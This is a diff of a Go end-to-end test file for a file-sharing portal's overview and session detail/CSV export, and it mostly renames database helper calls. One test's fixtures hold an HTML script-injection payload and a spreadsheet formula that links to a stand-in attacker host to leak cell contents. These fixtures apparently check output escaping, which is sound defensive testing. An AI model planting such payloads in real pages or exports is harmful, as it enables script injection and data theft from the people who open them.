@@ -24,7 +24,7 @@ const rowDownloads = `[...document.querySelectorAll('[data-testid="session-row"]
 func TestOverviewSortPageExpand(t *testing.T) {
 	e := newEnv(t)
 	alice := e.customer("acme", "alice@example.com")
-	e.exec(`INSERT INTO file_share_sessions (workspace_id, customer_id, short_slug, long_slug, status, title, file_name,
+	e.s.Exec(`INSERT INTO file_share_sessions (workspace_id, customer_id, short_slug, long_slug, status, title, file_name,
 			file_size_bytes, max_downloads, download_count, price_cents)
 		SELECT workspace_id, id, 'e2e-' || g, 'e2e-long-' || g, 'active', 'Extra file ' || g, 'extra-' || g || '.bin',
 			1000 * g, 20, 10 + g, 500
@@ -105,8 +105,8 @@ func TestOverviewSortPageExpand(t *testing.T) {
 		AND EXISTS (SELECT 1 FROM file_share_payments p WHERE p.session_id = s.id) LIMIT 1`, alice).Scan(&sid); err != nil {
 		t.Fatal(err)
 	}
-	downloads := e.count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
-	payments := e.count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)
+	downloads := e.s.Count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
+	payments := e.s.Count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)
 	if tb.count(fmt.Sprintf(`[data-id="%s"]`, sid)) == 0 {
 		tb.open("/acme/portal/overview?limit=20") // not on the first page of this sort
 	}
@@ -137,7 +137,7 @@ func TestOverviewSortPageExpand(t *testing.T) {
 func TestOverviewEmptyState(t *testing.T) {
 	e := newEnv(t)
 	bob := e.customer("acme", "bob@example.com")
-	e.exec(`DELETE FROM file_share_sessions WHERE customer_id = $1`, bob)
+	e.s.Exec(`DELETE FROM file_share_sessions WHERE customer_id = $1`, bob)
 	tb := e.tab()
 	tb.signInCookie(bob, uuid.Nil)
 	tb.open("/acme/portal/overview")
@@ -172,12 +172,12 @@ func TestSessionDetailAndCSV(t *testing.T) {
 		name     = `"><img src=x onerror=alert(3)>`
 		buyer    = `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
 	)
-	e.exec(`UPDATE file_share_sessions SET title = $2, file_name = $3 WHERE id = $1`, sid, title, fileName)
-	e.exec(`UPDATE customers SET name = $2 WHERE id = $1`, alice, name)
-	e.exec(`UPDATE file_share_payments SET buyer_name = $2, buyer_email = $3
+	e.s.Exec(`UPDATE file_share_sessions SET title = $2, file_name = $3 WHERE id = $1`, sid, title, fileName)
+	e.s.Exec(`UPDATE customers SET name = $2 WHERE id = $1`, alice, name)
+	e.s.Exec(`UPDATE file_share_payments SET buyer_name = $2, buyer_email = $3
 		WHERE id = (SELECT id FROM file_share_payments WHERE session_id = $1 ORDER BY created_at LIMIT 1)`, sid, buyer, "+cmd@example.com")
-	downloads := e.count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
-	payments := e.count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)
+	downloads := e.s.Count(`SELECT count(*) FROM file_share_downloads WHERE session_id = $1 AND deleted_at IS NULL`, sid)
+	payments := e.s.Count(`SELECT count(*) FROM file_share_payments WHERE session_id = $1 AND deleted_at IS NULL`, sid)
 
 	tb := e.tab()
 	tb.signInCookie(alice, uuid.Nil)
